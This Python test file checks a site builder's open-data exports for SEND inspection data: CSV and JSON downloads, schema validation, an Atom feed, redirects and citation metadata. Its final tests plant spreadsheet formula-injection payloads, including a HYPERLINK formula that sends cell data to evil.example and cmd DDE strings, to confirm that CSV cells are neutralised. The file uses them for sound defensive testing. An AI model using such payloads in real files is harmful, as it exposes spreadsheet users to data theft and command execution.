"""For journalists: permanent addresses, citations, data downloads and the feed."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from urllib.parse import urlsplit

from jsonschema import Draft202012Validator

from site_builder.site.open_data import AREA_COLUMNS, EVENT_COLUMNS
from site_builder.content.schema import load_schema
from site_builder.domain.vocabulary import Outcome

ATOM = "{http://www.w3.org/2005/Atom}"


def read_csv(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark for spreadsheets"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_areas_csv_has_every_area_and_documented_columns(built_site):
    rows = read_csv(built_site.output_dir / "data/areas.csv")
    assert [r["slug"] for r in rows] == ["exampleton", "north-oldshire", "oldshire", "south-oldshire", "testshire"]
    assert list(rows[0]) == [c.name for c in AREA_COLUMNS]
    testshire = rows[-1]
    assert (testshire["latest_outcome"], testshire["latest_published"], testshire["current"]) == ("systemic-failings", "2024-07-19", "true")
    assert testshire["page_url"] == "https://example.github.io/portal/areas/testshire/"
    oldshire = rows[2]
    assert (oldshire["current"], oldshire["ended"], oldshire["replaced_by"]) == ("false", "2023-03-31", "north-oldshire south-oldshire")
    assert oldshire["latest_start"] == "2017-01" and oldshire["latest_published"] == ""


def test_events_csv_one_row_per_event_with_source(built_site):
    rows = read_csv(built_site.output_dir / "data/events.csv")
    assert list(rows[0]) == [c.name for c in EVENT_COLUMNS]
    assert len(rows) == 7
    assert all(r["source"].startswith("https://") for r in rows)
    revisit = next(r for r in rows if r["event_id"] == "revisit-2019-10-07")
    assert (revisit["progress_sufficient"], revisit["progress_insufficient"], revisit["outcome"]) == ("3", "2", "some-progress")
    assert revisit["page_url"] == "https://example.github.io/portal/areas/testshire/#revisit-2019-10-07"


def test_json_files_validate_against_the_published_schema(built_site):
    validator = Draft202012Validator(load_schema("data-area"))
    everything = json.loads((built_site.output_dir / "data/areas.json").read_text("utf-8"))
    assert everything["generated"] == "2026-11-23" and len(everything["areas"]) == 5
    documents = everything["areas"] + [json.loads(p.read_text("utf-8")) for p in (built_site.output_dir / "areas").glob("*.json")]
    assert len(documents) == 11  # 5 in areas.json, 5 area files, and Testshire's again at its old slug
    for document in documents:
        assert list(validator.iter_errors(document)) == [], document["slug"]
    testshire = json.loads((built_site.output_dir / "areas/testshire.json").read_text("utf-8"))
    assert [e["event_id"] for e in testshire["history"]] == ["inspection-2024-06-03", "revisit-2019-10-07", "inspection-2018-01-15"]
    assert [n["starts"] for n in testshire["notices"]] == ["2026-01-10", "2026-12-01T18:30:00"]
    assert testshire["council_url"] == "https://www.testshire.example/" and testshire["local_offer_url"] is None
    assert testshire["help"] == [{"kind": "sendiass", "name": "Testshire SENDIASS", "url": "https://sendiass.testshire.example/",
                                  "phone": "01234 000000", "email": None}]


def test_schema_and_columns_cannot_drift():
    properties = set(load_schema("data-area")["properties"])
    assert properties == {c.name for c in AREA_COLUMNS} | {"history", "help", "plans", "notices"}
    help_kinds = load_schema("data-area")["properties"]["help"]["items"]["properties"]["kind"]["enum"]
    assert help_kinds == load_schema("area")["$defs"]["help"]["properties"]["kind"]["enum"]
    event_properties = set(load_schema("data-area")["$defs"]["event"]["properties"])
    assert event_properties == {c.name for c in EVENT_COLUMNS} - {"area_slug", "area_name", "gss_code"}


def test_data_page_documents_every_column(built_site):
    page = built_site.soup("data/index.html")
    documented = {code.get_text() for code in page.select("table code")}
    assert documented == {c.name for c in AREA_COLUMNS} | {c.name for c in EVENT_COLUMNS}
    links = {a["href"] for a in page.select("#downloads ~ ul a")}
    assert {"/portal/data/areas.csv", "/portal/data/areas.json", "/portal/data/events.csv", "/portal/feed.xml"} <= links


def feed_entries(site):
    root = ET.parse(site.output_dir / "feed.xml").getroot()
    return root, root.findall(f"{ATOM}entry")


def test_feed_is_atom_newest_first_and_linked_from_every_page(built_site):
    root, entries = feed_entries(built_site)
    assert root.tag == f"{ATOM}feed"
    dates = [e.find(f"{ATOM}updated").text for e in entries]
    assert dates == sorted(dates, reverse=True) and len(entries) == 10  # 7 events, 1 plan, 2 notices
    assert root.find(f"{ATOM}updated").text == dates[0]
    ids = [e.find(f"{ATOM}id").text for e in entries]
    assert len(set(ids)) == len(ids)
    assert "urn:send-area-portal:area:testshire:inspection-2024-06-03" in ids
    for path in built_site.html_files():
        soup = built_site.soup(str(path.relative_to(built_site.output_dir)))
        if soup.select_one('meta[http-equiv="refresh"]'):
            continue
        assert soup.select_one('link[rel="alternate"][type="application/atom+xml"]')["href"] == "/portal/feed.xml", path


def test_every_feed_entry_links_to_a_page_and_anchor_that_exist(built_site):
    _, entries = feed_entries(built_site)
    for entry in entries:
        url = urlsplit(entry.find(f"{ATOM}link").get("href"))
        assert url.netloc == "example.github.io"
        target = built_site.output_dir / url.path[len("/portal/"):] / "index.html"
        assert target.exists(), url
        assert built_site.soup(str(target.relative_to(built_site.output_dir))).find(id=url.fragment), url


def test_feed_ids_do_not_change_with_the_address(make_site):
    site = make_site()
    site.build(base_url="https://one.example/")
    first = [e.find(f"{ATOM}id").text for e in feed_entries(site)[1]]
    site.build(base_url="https://two.example/portal/")
    assert [e.find(f"{ATOM}id").text for e in feed_entries(site)[1]] == first


def test_old_addresses_keep_working(built_site):
    former = built_site.soup("areas/oldshire/index.html")
    assert former.h1.get_text() == "Oldshire (former area)"
    stub = built_site.soup("areas/old-testshire/index.html")
    assert stub.select_one('meta[http-equiv="refresh"]')["content"] == "0; url=/portal/areas/testshire/"
    assert stub.select_one('link[rel="canonical"]')["href"] == "https://example.github.io/portal/areas/testshire/"
    assert stub.select_one("main a")["href"] == "/portal/areas/testshire/"


def test_redirect_cannot_shadow_a_live_area(make_site):
    import pytest
    from site_builder.errors import BuildFailed
    text = (make_site().content_dir / "areas/testshire.yaml").read_text()
    site = make_site({"areas/testshire.yaml": text.replace("[old-testshire]", "[exampleton]")})
    with pytest.raises(BuildFailed) as failed:
        site.build()
    [problem] = failed.value.problems
    assert problem.field == "redirect_from" and "'exampleton' is still an area's file name" in problem.message


def test_area_page_can_be_cited(built_site):
    page = built_site.soup("areas/testshire/index.html")
    assert page.select_one('link[rel="canonical"]')["href"] == "https://example.github.io/portal/areas/testshire/"
    assert page.select_one('meta[property="og:title"]')["content"] == "Testshire: SEND inspections – Test SEND portal"
    assert page.select_one('meta[property="og:site_name"]')["content"] == "Test SEND portal"
    assert page.select_one('meta[property="og:url"]')["content"] == "https://example.github.io/portal/areas/testshire/"
    assert page.select_one('meta[name="twitter:card"]')["content"] == "summary"
    cite = page.select_one("#cite-heading").parent
    text = cite.get_text(" ", strip=True)
    assert "https://example.github.io/portal/areas/testshire/" in text
    assert "Facts last checked against sources 1 November 2026" in text and "Page built 23 November 2026" in text
    assert cite.select_one(".cite__text").get_text() == (
        "Test SEND portal (2026) Testshire: SEND inspection history. Available at: "
        "https://example.github.io/portal/areas/testshire/ (Accessed: [the date you read it]).")
    data = json.loads(page.select_one('script[type="application/ld+json"]').string)
    assert data["@type"] == "WebPage" and data["mainEntity"]["@type"] == "Dataset"
    assert data["mainEntity"]["distribution"][0]["contentUrl"] == "https://example.github.io/portal/areas/testshire.json"
    assert "https://files.example.org/report.pdf" in data["mainEntity"]["isBasedOn"]


# Spreadsheet formula injection (issue 13, item 6): content comes from volunteers' pull requests, so text
# that reaches the CSV files must never start a formula when a journalist opens them in a spreadsheet.

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HOSTILE_OUTCOME_TEXT = "+cmd|' /C calc'!A0"
HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SECOND_NOTE = "\t=1+1"


def hostile_site(make_site):
    site = make_site()
    area = (site.content_dir / "areas/exampleton.yaml").read_text("utf-8")
    area = area.replace("name: Exampleton", f"name: {json.dumps(HOSTILE_NAME)}")
    area = area.replace(
        "outcome_text: \"The local area partnership's SEND arrangements typically lead to positive experiences and outcomes "
        "for children and young people with SEND.\"",
        f"outcome_text: {json.dumps(HOSTILE_OUTCOME_TEXT)}\n    note: {json.dumps(HOSTILE_NOTE)}")
    area = area.replace("    source: https://www.example.org/official-statistics",
                        f"    source: https://www.example.org/official-statistics\n    note: {json.dumps(HOSTILE_SECOND_NOTE)}\n"
                        "    outcome_text: \"-2+3 weaknesses\"", 1)
    assert area.count("\n    note: ") == 2 and HOSTILE_OUTCOME_TEXT in area
    site.write("areas/exampleton.yaml", area)
    site.build(base_url="https://example.github.io/portal/")
    return site


def test_csv_cells_that_could_start_a_formula_are_neutralised(make_site):
    site = hostile_site(make_site)
    areas = read_csv(site.output_dir / "data/areas.csv")
    exampleton = next(r for r in areas if r["slug"] == "exampleton")
    assert exampleton["name"] == "'" + HOSTILE_NAME
    events = [r for r in read_csv(site.output_dir / "data/events.csv") if r["area_slug"] == "exampleton"]
    assert [(r["event_id"], r["area_name"], r["outcome_text"], r["note"]) for r in events] == [
        ("inspection-2017-05-08", "'" + HOSTILE_NAME, "'-2+3 weaknesses", "'" + HOSTILE_SECOND_NOTE),
        ("inspection-2025-02-03", "'" + HOSTILE_NAME, "'" + HOSTILE_OUTCOME_TEXT, "'" + HOSTILE_NOTE),
    ]
    # Nothing else changes: numbers, dates, months, booleans, addresses and ordinary text are written as they are.
    assert (exampleton["latest_published"], exampleton["latest_start"], exampleton["events"], exampleton["current"]) == (
        "2025-04-11", "2025-02-03", "2", "true")
    testshire = next(r for r in areas if r["slug"] == "testshire")
    assert (testshire["name"], testshire["la_number"], testshire["ofsted_urn"], testshire["gss_code"]) == (
        "Testshire", "901", "99901", "E10000901")
    oldshire = next(r for r in areas if r["slug"] == "oldshire")
    assert oldshire["latest_start"] == "2017-01"
    revisit = next(r for r in read_csv(site.output_dir / "data/events.csv") if r["event_id"] == "revisit-2019-10-07")
    assert (revisit["start"], revisit["progress_sufficient"], revisit["framework"]) == ("2019-10-07", "3", "2016")
    # No cell of either file starts a formula.
    for name in ("areas.csv", "events.csv"):
        raw = (site.output_dir / "data" / name).read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(raw)):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)


def test_json_keeps_hostile_text_exactly(make_site):
    site = hostile_site(make_site)
    everything = json.loads((site.output_dir / "data/areas.json").read_text("utf-8"))
    assert next(a for a in everything["areas"] if a["slug"] == "exampleton")["name"] == HOSTILE_NAME
    exampleton = json.loads((site.output_dir / "areas/exampleton.json").read_text("utf-8"))
    assert exampleton["name"] == HOSTILE_NAME
    assert [(e["outcome_text"], e["note"]) for e in exampleton["history"]] == [
        (HOSTILE_OUTCOME_TEXT, HOSTILE_NOTE), ("-2+3 weaknesses", HOSTILE_SECOND_NOTE)]


def test_csv_cell_rules():
    from site_builder.site.open_data import Column, csv_cell, to_csv
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    for safe in ("Bedford", " =1", "1-2", "2018-03-06", "2017-01", "https://a.example/?x=-1", "a=b", "'already"):
        assert csv_cell(safe) == safe
    assert (csv_cell(None), csv_cell(True), csv_cell(False), csv_cell(3), csv_cell(-3)) == ("", "true", "false", 3, -3)
    columns = (Column("a", "", None), Column("b", "", None))
    text = to_csv([{"a": "\r=1+1", "b": "-\n2"}, {"a": 0, "b": "=x"}], columns)
    assert list(csv.reader(io.StringIO(text[1:]))) == [["a", "b"], ["'\r=1+1", "'-\n2"], ["0", "'=x"]]


def test_data_page_says_how_csv_cells_are_neutralised(built_site):
    text = built_site.soup("data/index.html").get_text(" ", strip=True)
    assert ("a CSV cell whose text begins with = , + , - , @ , a tab or a carriage return has an apostrophe ( ' ) put in front "
            "of it; the JSON files keep the exact text.") in text


def test_the_open_data_schema_is_published_beside_the_files_and_linked(built_site):
    """A journalist can validate the JSON files against the schema the site publishes (issue 18); its outcome
    values are the vocabulary's."""
    schema = json.loads((built_site.output_dir / "data/area.schema.json").read_text("utf-8"))
    assert schema["$defs"]["outcome"]["enum"] == [o.value for o in Outcome]
    validator = Draft202012Validator(schema)
    for path in (built_site.output_dir / "areas").glob("*.json"):
        assert list(validator.iter_errors(json.loads(path.read_text("utf-8")))) == [], path.name
    page = built_site.soup("data/index.html")
    assert page.find("a", href="/portal/data/area.schema.json", string="published JSON Schema")
    assert "utf-8-sig" in page.get_text()
